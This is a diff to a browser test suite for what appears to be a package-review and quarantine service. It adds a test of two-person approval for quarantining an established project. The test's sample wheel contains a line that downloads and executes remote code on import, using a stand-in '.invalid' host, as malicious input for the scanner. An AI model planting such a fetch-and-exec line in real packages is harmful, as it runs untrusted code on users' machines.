@@ -7,6 +7,7 @@ import type { Browser } from 'playwright-core';
 import { packWheel } from '../../scripts/pack-example.ts';
 import { submit } from '../../src/jobs/submit.ts';
 import { currentDisposition } from '../../src/store/dispositions.ts';
+import { indexStatusesOf } from '../../src/store/index-statuses.ts';
 import { listQueue } from '../../src/store/review-items.ts';
 import { claims } from '../../src/store/schema-review.ts';
 import { NO_BROWSER, openBrowser, seriousViolations, visit } from '../support/browser.ts';
@@ -24,11 +25,11 @@ const LOOK = `(() => {
   return { text, images };
 })()`;
 
-function wheel(project: string, source: string, readme = ''): Uint8Array {
-  const info = `${project}-1.0.dist-info`;
+function wheel(project: string, source: string, readme = '', version = '1.0'): Uint8Array {
+  const info = `${project}-${version}.dist-info`;
   const files = {
     [`${project}/__init__.py`]: source,
-    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: 1.0\n\n${readme}`,
+    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: ${version}\n\n${readme}`,
     [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
   };
   return packWheel(Object.entries(files).map(([file, text]) => ({ path: file, bytes: Buffer.from(text) })));
@@ -55,7 +56,10 @@ describe('the review page', { skip: NO_BROWSER }, () => {
   let browser: Browser;
   before(async () => {
     const policy = path.join(tmpdir(), `lazaret-policy-${process.pid}.toml`);
-    await writeFile(policy, 'dry-run = false\n');
+    await writeFile(
+      policy,
+      'dry-run = false\n[quarantine]\nconfirm = "project"\ntwo-person = "established"\n',
+    );
     server = await openTestServer({ 'scan.processes': 1, policy });
     browser = await openBrowser();
   });
@@ -225,6 +229,33 @@ describe('the review page', { skip: NO_BROWSER }, () => {
       .getByText(`${firstName} has this in hand`)
       .waitFor({ state: 'detached' });
     assert.deepEqual(first.problems, []);
+    for (const { page } of [first, second]) await page.context().close();
+  });
+
+  it('says that the quarantine of an established project waits for a second reviewer', async () => {
+    const harmless = await upload('known-1.0-py3-none-any.whl', wheel('known', 'VALUE = 1\n'));
+    const { db } = server.service.database;
+    assert.equal((await currentDisposition(db, harmless))?.disposition, 'released');
+    const source = 'import urllib.request\nexec(urllib.request.urlopen("https://known.invalid/x").read())\n';
+    const grave = await upload('known-1.1-py3-none-any.whl', wheel('known', source, '', '1.1'));
+    const first = await visit(browser, server, await reviewer());
+    const second = await visit(browser, server, await reviewer());
+    for (const { page } of [first, second]) {
+      await page.goto(`${server.url}distributions/${grave}`);
+      await page.getByRole('tabpanel').waitFor();
+    }
+    await first.page.keyboard.press('c');
+    await first.page.keyboard.press('Enter');
+    await first.page.getByText('waits for a second reviewer').waitFor();
+    assert.equal((await indexStatusesOf(db, 'known')).size, 0);
+    assert.deepEqual(await seriousViolations(first.page), []);
+    await first.page.goto(server.url);
+    await first.page.getByRole('button', { name: 'Escalated' }).click();
+    await first.page.locator('.queue-row', { hasText: 'waits for a second reviewer' }).waitFor();
+    await second.page.keyboard.press('c');
+    await second.page.keyboard.press('Enter');
+    await second.page.getByText('Decided', { exact: true }).waitFor();
+    assert.equal((await indexStatusesOf(db, 'known')).get(null)?.status, 'quarantined');
     for (const { page } of [first, second]) await page.context().close();
   });
 
